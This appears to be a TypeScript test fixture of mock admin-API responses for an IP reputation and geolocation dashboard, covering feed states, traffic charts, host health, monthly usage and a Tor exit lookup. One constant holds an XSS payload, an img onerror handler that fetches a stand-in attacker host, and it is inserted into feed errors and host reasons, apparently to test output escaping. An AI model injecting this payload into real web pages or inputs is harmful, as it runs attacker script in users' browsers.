// answers.ts: answers of the admin API that a test cannot wait for or bring about.

import { NO_FLAGS } from "@inkling/contract";
import type { Release } from "@inkling/engine";
import { FEEDS } from "../../packages/compiler/src/catalog/feeds.ts";

const HOSTILE = '<img src=x onerror="fetch(`https://evil.example/`)">';

/** Every feed that exists, as a release reports it: all names, licences and notices. */
export const ALL_FEEDS: Release["feeds"] = FEEDS.map((feed, i) => ({
  id: feed.id,
  sets: String(feed.sets),
  source: "fetched",
  state: "loaded",
  entries: 1_000 * (i + 1),
  fetched_at: "2026-01-01T00:00:00.000Z",
  licence: feed.licence,
  ...(feed.attribution === undefined ? {} : { attribution: feed.attribution }),
}));

function moment(i: number) {
  const n = Math.round(400 + 300 * Math.sin(i / 9));
  return {
    at: new Date(Date.UTC(2026, 0, 1, 12, i)).toISOString(),
    requests: n,
    statuses: { "2xx": n - 20, "4xx": 18, "5xx": i === 40 ? 12 : 0 },
    lookups: { geolocate: n >> 1, reputation: n >> 2, email: n >> 3, assess: 0 },
    batch_lookups: { reputation: n >> 3 },
    problems: { RATE_LIMITED: 4, IP_ADDRESS_RESERVED: 12 },
    flags_raised: { is_abuser: 5, is_proxy: i % 9, is_tor_exit: 1, disposable: 3 },
    latency_seconds: { p50: 0.0005, p95: 0.001, p99: i === 40 ? null : 0.0025 },
    batch_latency_seconds: { p50: 0.1, p95: null, p99: null },
  };
}

/** Traffic of an hour. */
export const HOUR = {
  hours: 3,
  step_minutes: 1,
  series: Array.from({ length: 60 }, (_, i) => moment(i)),
  total: {
    ...moment(30),
    countries: [
      { iso_code: "US", count: 5100 },
      { iso_code: "DE", count: 900 },
      { iso_code: "BR", count: 410 },
    ],
  },
};
/** Charts with the widest labels that there are, one of them at the end. */
export const LARGE_NUMBERS = {
  ...HOUR,
  series: HOUR.series.slice(0, 31).map((point) => ({
    ...point,
    statuses: { "2xx": 456_000_000 },
    latency_seconds: { p50: 0.1, p95: 0.5, p99: 0.5 },
  })),
};
export const NO_TRAFFIC = { ...HOUR, series: [] };

/** A release with every problem. */
export const TROUBLE = {
  pinned: "20260101T000003000Z-c0d874cdfc1c",
  missing: ["is_proxy"],
  partial: [{ answer: "is_abuser", why: "without spamhaus-drop-v6" }],
  refused_release: {
    name: "20260102T000003000Z-0123456789ab",
    at: "2026-01-02T00:00:09.000Z",
    reason: "segments/0123.seg: byte 1182: got 0x1, want 0x3",
  },
  held_release: {
    id: "0123456789ab",
    at: "2026-01-02T00:00:03.000Z",
    why: "is_abuser: 3.7 % of public IPv4 would be flagged, at most 2.0 % of public IPv4 are expected",
  },
  failed_build: { at: "2026-01-03T00:00:03.000Z", why: "no list of is_tor_exit could be read" },
  update: { running: true, asked: false, last: null },
};

/** One feed in each state. */
export const TROUBLED_FEEDS = [
  { id: "healthy", state: "loaded", entries: 4_200, history: [4_000, 4_100, 3_900, 4_200] },
  { id: "getting-old", state: "loaded", entries: 310, age_seconds: 20 * 3_600 },
  { id: "too-old", state: "loaded", stale: true, entries: 12, age_seconds: 90 * 3_600, error: "HTTP 503" },
  { id: "changed", state: "loaded", entries: 900, pending: { sha256: "00", why: "9,000 entries, not 900" } },
  { id: "expired", state: "expired", entries: 0, age_seconds: 900 * 3_600, error: "older than 30 days" },
  { id: "refused", state: "refused", entries: 0, error: `${HOSTILE} would flag a public resolver` },
  { id: "missing", state: "missing", entries: 0, age_seconds: null },
  {
    id: "away",
    state: "loaded",
    entries: 31,
    error: `publisher: https://lists.with-a-very-long-name.example/a/path/of/${"many/".repeat(9)}parts?and=a,query could not be reached: host not found; last-good: ${"x".repeat(80)}`,
  },
].map((feed) => ({
  title: `Published by ${feed.id}`,
  homepage: null,
  sets: "is_abuser",
  stale: false,
  age_seconds: 3_600,
  cadence_hours: 6,
  stale_hours: 24,
  error: null,
  pending: null,
  licence: "CC0-1.0",
  attribution: null,
  on: feed.id !== "away",
  own: false,
  needs_agreement: false,
  ...feed,
  history: (feed.history ?? []).map((entries) => ({ entries })),
}));

/** Off, off with terms to agree to, and waiting for the next build. */
export const UNUSED_FEEDS = [
  { id: "off", on: false, needs_agreement: false },
  { id: "terms", on: false, needs_agreement: true },
  { id: "office-vpn", on: true, needs_agreement: false },
].map((feed) => ({
  title: `Published by ${feed.id}`,
  homepage: "docs/own-feeds.md",
  sets: "is_proxy",
  licence: "none stated",
  own: feed.id === "office-vpn",
  ...feed,
}));

const host = (name: string, over: object = {}) => ({
  id: `0f0c1d2e-0000-4000-8000-000000000000@${name}:8080`,
  name: `${name}:8080`,
  state: "ready",
  reasons: [],
  warnings: [],
  version: "0.1.0",
  release: {
    name: "20260101T000003000Z-c0d874cdfc1c",
    created_at: "2026-01-01T00:00:03.000Z",
    age_seconds: 7,
    pinned: name.startsWith("web-2"),
  },
  channel: { name: "stable", version: 1_767_225_603, release: null, fault: null },
  requests_per_second: 1_234.5,
  leases: 4_321,
  clock_offset_seconds: 0.1,
  last_contact: new Date().toISOString(),
  silent_seconds: 0,
  ...over,
});

/** A group with a host in each state. */
export const HOSTS = {
  shared: true,
  hosts: [
    host("web-1"),
    host("web-2.with-a-very-long-name.internal.example", { clock_offset_seconds: -3_600 }),
    host("web-3", {
      state: "not-ready",
      reasons: ["no release of data is loaded", `${HOSTILE} was refused`],
      release: null,
    }),
    host("web-4", { state: "silent", last_contact: new Date(Date.now() - 300_000).toISOString() }),
    host("web-5", { state: "unknown", version: null, requests_per_second: null, leases: null }),
  ],
};

/** A month of a key. */
export const MONTH = {
  from: "2026-01-01",
  to: "2026-01-30",
  usage: Array.from({ length: 30 }, (_, i) => {
    const n = Math.round(4000 + 3000 * Math.sin(i / 3));
    const row = { geolocate: n, reputation: n >> 1, email: n >> 2, assess: 0 };
    const refused = { not_allowed: 0, rate_limited: i > 20 ? n >> 3 : 0, quota_exceeded: i === 29 ? 900 : 0 };
    return {
      at: `2026-01-${String(i + 1).padStart(2, "0")}`,
      ...row,
      total: n + (n >> 1) + (n >> 2),
      batch: { geolocate: 0, reputation: n >> 2, email: 0, assess: 0 },
      refused,
    };
  }),
};

const fetched_at = new Date(Date.now() - 90_000).toISOString();

/** An address with every effect, long names and more evidence than fits. */
export const TOR_EXIT = {
  release: "0123456789ab",
  missing: [],
  partial: [],
  ages: [{ answer: "is_tor_exit", feed: "tor-onionoo", seconds: 93 * 86_400 }],
  answers: [
    {
      value: "185.220.101.1",
      kind: "address",
      address: "185.220.101.1",
      geolocation: {
        city: { name: "Berlin" },
        continent: { code: "EU", name: "Europe" },
        country: { iso_code: "DE", name: "Germany" },
        location: { latitude: 52.52, longitude: 13.405, accuracy_radius: 50, time_zone: "Europe/Berlin" },
        postal: { code: "10117" },
        registered_country: { iso_code: "NL", name: "Netherlands" },
        subdivisions: [{ iso_code: "BE", name: "State of Berlin" }],
        evidence: [
          { feed: "dbip-city-lite", label: "geolocation", effect: "sets", members: ["city", "country"] },
          {
            feed: "geonames",
            label: "time_zone",
            effect: "fills",
            members: ["location"],
            why: "nearest city",
          },
        ],
      },
      reputation: {
        ...NO_FLAGS,
        is_proxy: true,
        is_tor_exit: true,
        evidence: [
          { feed: "tor-bulk-exits", label: "tor_exit", effect: "sets", flags: ["is_tor_exit", "is_proxy"] },
          { feed: "x4bnet-vpn-v4", label: "vpn", effect: "sets", network: "185.220.101.0/24", fetched_at },
          { feed: "ipsum-3", label: "attacker", effect: "label", why: "traffic of a Tor exit's users" },
          {
            feed: "override",
            label: "override",
            effect: "removes",
            flags: ["is_abuser"],
            id: "ovr_0123456789abcdef",
          },
          { feed: "spamhaus-drop-v4", label: "criminal_network", effect: "removes", flags: ["is_abuser"] },
        ],
        evidence_truncated: true,
      },
      overrides: [
        {
          id: "ovr_0123456789abcdef",
          kind: "network",
          value: "185.220.101.0/24",
          flag: "is_abuser",
          verdict: false,
          note: "wrong about our partner's exit; see their letter of 3 March",
          author: "ada",
          created_at: fetched_at,
          expires_at: new Date(Date.now() + 20 * 86_400_000).toISOString(),
          removed_at: null,
        },
      ],
    },
  ],
};
